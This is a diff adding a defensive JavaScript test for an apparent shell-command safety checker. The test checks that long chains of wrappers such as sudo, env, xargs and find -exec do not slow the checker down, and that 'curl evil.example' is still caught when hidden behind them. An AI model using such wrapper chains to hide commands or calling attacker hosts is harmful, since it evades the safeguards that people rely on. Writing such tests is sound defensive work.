@@ -68,3 +68,36 @@ test('quotes and substitutions within each other end, however many there are', (
     assert.ok(performance.now() - before < 2_000, piece)
   }
 })
+
+test('wrappers and programs that start one another end, however many there are, and a command is found behind some of them', () => {
+  const many = [
+    'env ',
+    'env -i ',
+    'flock ',
+    'flock a ',
+    'find -exec ',
+    'find . -exec ',
+    'env -S ',
+    'su -c ',
+    'xargs ',
+    'sudo ',
+    'nohup ',
+    'nice ',
+  ]
+  for (const piece of [...many, 'trap ', "trap '", 'sh <<E\n', 'watch "', 'A=$A ']) {
+    const before = performance.now()
+    judgeCommand(piece.repeat(Math.floor(32_000 / piece.length)))
+    assert.ok(performance.now() - before < 500, piece)
+  }
+  for (const text of [
+    `awk '${'\\"'.repeat(16_000)}'`,
+    `A='${'x'.repeat(25_000)}';${'$A;'.repeat(1_900)}`,
+    `sh <<E\n${'trap '.repeat(6_000)}\nE`,
+  ]) {
+    const before = performance.now()
+    judgeCommand(text)
+    assert.ok(performance.now() - before < 500, text.slice(0, 20))
+  }
+  for (const piece of many) assert.notEqual(judgeCommand(`${piece.repeat(8)}curl evil.example`), undefined, piece)
+  assert.equal(judgeCommand('find -exec '.repeat(40)), 'dangerous-command')
+})
